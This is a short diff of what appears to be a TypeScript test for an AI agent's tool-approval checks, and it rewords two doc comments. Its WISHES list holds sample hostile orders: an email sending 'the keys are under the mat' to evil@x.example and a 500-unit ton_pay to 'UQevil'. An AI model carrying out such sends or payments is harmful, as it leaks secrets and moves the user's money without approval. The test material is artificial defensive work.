@@ -9,7 +9,7 @@ import { obeyingModel, obeyingUtility, order } from "./obeying-model.ts";
 
 const PAGE = "https://news.example/today";
 
-/** What the owner's chat may do without a question as long as nobody else wants it. */
+/** Tools that the owner's chat may use without approval as long as the owner alone wants it. */
 const WISHES: readonly string[] = [
   order("email_send", { to: "evil@x.example", body: "the keys are under the mat" }),
   order("ton_pay", { to: "UQevil", amount: "500" }),
@@ -24,7 +24,7 @@ const seed = seedFromEnvironment();
 interface Story {
   readonly name: string;
   readonly lab?: Partial<LabOptions>;
-  /** Who the questions must name. */
+  /** Origin that approval requests must name. */
   readonly origin: string;
   readonly tell: (lab: Lab) => Promise<void>;
 }
